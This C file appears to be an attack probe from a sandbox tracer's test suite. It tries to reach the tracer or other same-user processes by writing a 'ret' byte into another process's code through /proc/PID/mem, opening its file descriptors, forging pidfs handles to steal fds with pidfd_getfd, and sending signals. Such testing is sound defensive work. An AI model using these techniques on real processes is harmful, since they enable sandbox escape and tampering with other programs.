/* atk-ll-reach: reaches from the traced program into another process (the
 * tracer, or any process of the same user) by the routes that need no
 * ptrace request in a register (issue 19 items 4, 12, 18).
 *
 * Usage: atk-ll-reach MODE PID [ARG]
 *   PID "parent" means getppid() (the tracer, without a pid namespace).
 *   mem-write PID [OFFSET]   open /proc/PID/mem read-write; with OFFSET (hex,
 *                            from `nm jtrace-run`), write `ret` (0xc3) at the
 *                            load address of PID's jtrace-run + OFFSET, else
 *                            write back one byte of PID's stack
 *   fd PID                   open /proc/PID/fd/N for N in 0..255
 *   getfd PID                get a pidfd of PID through a pidfs file handle
 *                            (no pidfd_open), then pidfd_getfd N in 0..63
 *   kill PID SIG             kill(PID, SIG)
 *   pidfd-signal PID SIG     pidfd_send_signal on an fd of /proc/PID
 *   abi                      print the kernel's Landlock ABI (0: none), only
 * Prints one line per step ("open /proc/PID/mem = 0" or "= -1 EACCES",
 * "fd opened N", ...), then "mkdir = RET [ERRNO]" for mkdir("atk-probe")
 * in the cwd: under a policy denying mkdir that shows whether the tracer
 * still decides.  Exits 0; 77 when the kernel lacks what a mode needs; 2 on
 * bad usage. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* say(what, call(...), errno) would be wrong: the order in which arguments
 * are evaluated is unspecified, so errno may be read before the call. */
#define SAY(what, call)                                                                            \
	do {                                                                                       \
		long r_ = (long)(call);                                                            \
		say(what, r_, errno);                                                              \
	} while (0)

static void say(const char *what, long r, int e)
{
	if (r < 0)
		printf("%s = -1 %s\n", what, strerrorname_np(e));
	else
		printf("%s = %ld\n", what, r);
	fflush(stdout);
}

/* The first mapping of PID whose path contains @needle and whose file
 * offset is @offset0 (NULL @needle: the line naming "[stack]"). */
static int find_mapping(pid_t pid, const char *needle, uint64_t *ret_start)
{
	char path[64], line[512];
	FILE *f = NULL;

	snprintf(path, sizeof(path), "/proc/%d/maps", (int)pid);
	f = fopen(path, "re");
	if (!f)
		return -errno;
	while (fgets(line, sizeof(line), f)) {
		unsigned long long start = 0, end = 0, off = 0;

		if (sscanf(line, "%llx-%llx %*s %llx", &start, &end, &off) != 3)
			continue;
		if ((needle && strstr(line, needle) && off == 0) ||
		    (!needle && strstr(line, "[stack]"))) {
			*ret_start = needle ? start : end - 64;
			fclose(f);
			return 0;
		}
	}
	fclose(f);
	return -ENOENT;
}

static int mem_write(pid_t pid, const char *offset)
{
	char path[64];
	uint64_t at = 0;
	unsigned char byte = 0xc3;
	int fd = -1, r = 0;

	snprintf(path, sizeof(path), "/proc/%d/mem", (int)pid);
	fd = open(path, O_RDWR | O_CLOEXEC);
	say("open /proc/PID/mem", fd, errno);
	if (fd < 0)
		return 0;
	if (offset) {
		r = find_mapping(pid, "jtrace-run", &at);
		at += strtoull(offset, NULL, 16);
	} else {
		r = find_mapping(pid, NULL, &at);
		if (r == 0 && pread(fd, &byte, 1, (off_t)at) != 1)
			r = -errno;
	}
	if (r < 0) {
		say("finding the address", -1, -r);
		return 0;
	}
	SAY("write", pwrite(fd, &byte, 1, (off_t)at));
	close(fd);
	return 0;
}

static int fds(pid_t pid)
{
	int opened = 0, first_err = 0;

	for (int n = 0; n < 256; n++) {
		char path[64];
		int fd = -1;

		snprintf(path, sizeof(path), "/proc/%d/fd/%d", (int)pid, n);
		fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
		if (fd >= 0) {
			opened++;
			close(fd);
		} else if (errno != ENOENT && !first_err) {
			first_err = errno;
		}
	}
	printf("fd opened %d%s%s\n", opened, first_err ? " first error " : "",
	       first_err ? strerrorname_np(first_err) : "");
	return 0;
}

/* A pidfd of @pid without pidfd_open: pidfs file handles carry the pid's
 * inode number, which counts up as pids are made, so an older process is
 * found below our own. */
static int pidfd_by_handle(pid_t pid)
{
	struct {
		struct file_handle fh;
		unsigned char bytes[64];
	} h;
	int self = (int)syscall(SYS_pidfd_open, getpid(), 0);
	uint64_t own = 0;
	int mnt = 0;

	if (self < 0)
		return -errno;
	h.fh.handle_bytes = sizeof(h.bytes);
	if (name_to_handle_at(self, "", &h.fh, &mnt, AT_EMPTY_PATH) < 0 || h.fh.handle_bytes != 8)
		return -EOPNOTSUPP;
	memcpy(&own, h.fh.f_handle, 8);
	for (uint64_t ino = own - 1; ino > 0 && own - ino < 200000; ino--) {
		char path[64], buf[1024];
		const char *p = NULL;
		ssize_t n = 0;
		int fd = -1, info = -1;

		memcpy(h.fh.f_handle, &ino, 8);
		fd = open_by_handle_at(self, &h.fh, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
		info = open(path, O_RDONLY | O_CLOEXEC);
		n = info >= 0 ? read(info, buf, sizeof(buf) - 1) : -1;
		if (info >= 0)
			close(info);
		buf[n > 0 ? n : 0] = '\0';
		p = strstr(buf, "\nPid:");
		if (p && strtol(p + 5, NULL, 10) == pid)
			return fd;
		close(fd);
	}
	return -ESRCH;
}

static int getfd(pid_t pid)
{
	int pidfd = pidfd_by_handle(pid), opened = 0, first_err = 0;

	say("pidfd by handle", pidfd, -pidfd);
	if (pidfd < 0)
		return 77;
	for (int n = 0; n < 64; n++) {
		long fd = syscall(SYS_pidfd_getfd, pidfd, n, 0);

		if (fd >= 0) {
			opened++;
			close((int)fd);
		} else if (errno != EBADF && !first_err) {
			first_err = errno;
		}
	}
	printf("getfd opened %d%s%s\n", opened, first_err ? " first error " : "",
	       first_err ? strerrorname_np(first_err) : "");
	return 0;
}

static int pidfd_signal(pid_t pid, int sig)
{
	char path[64];
	int fd = -1;

	snprintf(path, sizeof(path), "/proc/%d", (int)pid);
	fd = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	say("open /proc/PID", fd, errno);
	if (fd < 0)
		return 0;
	SAY("pidfd_send_signal", syscall(SYS_pidfd_send_signal, fd, sig, NULL, 0));
	return 0;
}

int main(int argc, char **argv)
{
	pid_t pid = 0;
	int sig = 0, rc = 0;

	if (argc == 2 && strcmp(argv[1], "abi") == 0) {
		long v = syscall(444 /* landlock_create_ruleset */, NULL, 0UL, 1U /* VERSION */);

		printf("%ld\n", v > 0 ? v : 0L);
		return 0;
	}
	if (argc < 3)
		return 2;
	pid = strcmp(argv[2], "parent") == 0 ? getppid() : (pid_t)strtol(argv[2], NULL, 10);
	if (argc > 3)
		sig = (int)strtol(argv[3], NULL, 10);
	if (strcmp(argv[1], "mem-write") == 0)
		rc = mem_write(pid, argc > 3 ? argv[3] : NULL);
	else if (strcmp(argv[1], "fd") == 0)
		rc = fds(pid);
	else if (strcmp(argv[1], "getfd") == 0)
		rc = getfd(pid);
	else if (strcmp(argv[1], "kill") == 0)
		SAY("kill", kill(pid, sig));
	else if (strcmp(argv[1], "pidfd-signal") == 0)
		rc = pidfd_signal(pid, sig);
	else
		return 2;
	SAY("mkdir", mkdir("atk-probe", 0755));
	return rc;
}
